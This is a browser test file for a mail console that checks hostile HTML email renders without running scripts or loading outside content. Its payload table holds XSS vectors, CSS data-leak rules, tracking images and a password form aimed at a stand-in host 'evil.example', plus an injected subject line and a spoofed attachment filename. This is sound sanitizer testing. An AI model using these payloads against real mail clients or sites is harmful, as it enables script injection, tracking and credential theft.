"""Hostile mail in the console: nothing runs or loads from outside, and the page still reads."""

from email.message import EmailMessage
from email.policy import SMTPUTF8

import pytest
from test_browser import address, browser, look  # noqa: F401 - fixtures

from models.envelope import Client, Envelope, Recipient
from models.mail import Mail
from models.mime import read_message
from tests.console_sample import NOW, make_council

pytestmark = [pytest.mark.browser, pytest.mark.slow]
CARD = "The card is 4111 1111 1111 1111."
EVIL = "http://evil.example"
LARGE = "ten megabytes in one line"  # more than is read, and the page says so
TEN_MEGABYTES = 10_000_000  # characters of HTML
SEEN = "<p>Seen by its reader</p>"
HTML = {
    "a script": f"{SEEN}<script>document.title='owned';fetch('{EVIL}')</script>",
    "handlers": f"{SEEN}<img src=x onerror=\"document.title='owned'\"><body onload=alert(1)>",
    "an SVG": f"{SEEN}<svg onload=alert(1)><script>alert(1)</script><use href='{EVIL}/a#b'/></svg>",
    "CSS that tells": f"<style>@import '{EVIL}/a.css';"
    f"input[value^=a]{{background:url({EVIL}/?a)}} body{{display:none}}</style>{SEEN}",
    "pictures from elsewhere": f"{SEEN}<img src='{EVIL}/track.gif'>"
    f"<video poster='{EVIL}/b'></video><link rel=prefetch href='{EVIL}/c'>",
    "links that run": f"{SEEN}<a href='javascript:alert(1)'>here</a>"
    f"<a href='data:text/html,<script>alert(1)</script>'>there</a>",
    "a frame, a form and a base": f"{SEEN}<iframe src='{EVIL}'></iframe><base href='{EVIL}'>"
    f"<form action='{EVIL}'><input name=password></form>"
    f"<meta http-equiv=refresh content='0;{EVIL}'>",
    "the page's own ends": f"{SEEN}</li></ol></main></body></html><!-- --><textarea><title>",
    LARGE: SEEN + "padding " * (TEN_MEGABYTES // 8),
    "very many tags": SEEN + "<b><i>x</i></b><br>" * 2_000,
}
SUBJECT = "</title><script>alert(1)</script> {{ 7*7 }} %(x)s"


@pytest.fixture(params=["en"])
def language(request):
    return request.param


@pytest.fixture(params=["narrow"])
def size(request):
    return request.param


@pytest.fixture(scope="module")
def council(tmp_path_factory):
    made = make_council(tmp_path_factory.mktemp("hostile"))
    yield made
    made.database.close()


def hostile(number, html, to="john@example.org", subject=SUBJECT):
    message = EmailMessage(policy=SMTPUTF8)
    message["From"] = "Sioned Parry <sioned.parry@cantref.example>"
    message["To"] = to
    message["Subject"] = subject
    message.set_content(CARD)
    message.add_alternative(html, subtype="html")
    name = '"><img src=x onerror=alert(1)>\u202efdp.exe'
    message.add_attachment(b"<svg onload=alert(1)/>", "image", "svg+xml", filename=name)
    envelope = Envelope(
        id=f"POR{number:06}",
        sender="sioned.parry@cantref.example",
        recipients=(Recipient(address=to),),
        client=Client(address="127.0.0.1", port=40000, name="mail"),
        received=NOW,
    )
    return Mail(envelope=envelope, message=read_message(message.as_bytes()))


@pytest.mark.requirement("M9")
@pytest.mark.parametrize("what", HTML)
def test_nothing_runs_or_loads_and_the_page_still_reads(look, address, council, what):  # noqa: F811
    page, check, sign_in = look
    page.on("dialog", lambda each: pytest.fail(f"it ran: {each.message}"))
    held_id = council.hold_mail(hostile(list(HTML).index(what) + 1, HTML[what]))
    sign_in("gwen")
    page.goto(f"{address}/held/{held_id}")
    check(f"hostile-{held_id}")
    page.click("form:has(input[value='attachments']) button")
    page.get_by_text("4111 1111 1111 1111").first.wait_for()
    check(f"hostile-{held_id}-opened")
    shown = page.locator("main").inner_text()
    assert "Seen by its reader" in shown or (what == LARGE and "could not be read" in shown)
    assert held_id in page.title()
    assert page.locator("main :is(img, svg, iframe, script, style, base, video)").count() == 0
    assert page.locator("main a[href^='javascript:'], main a[href^='data:']").count() == 0
    assert page.locator(f"form[action='/held/{held_id}/decision'] button").is_visible()
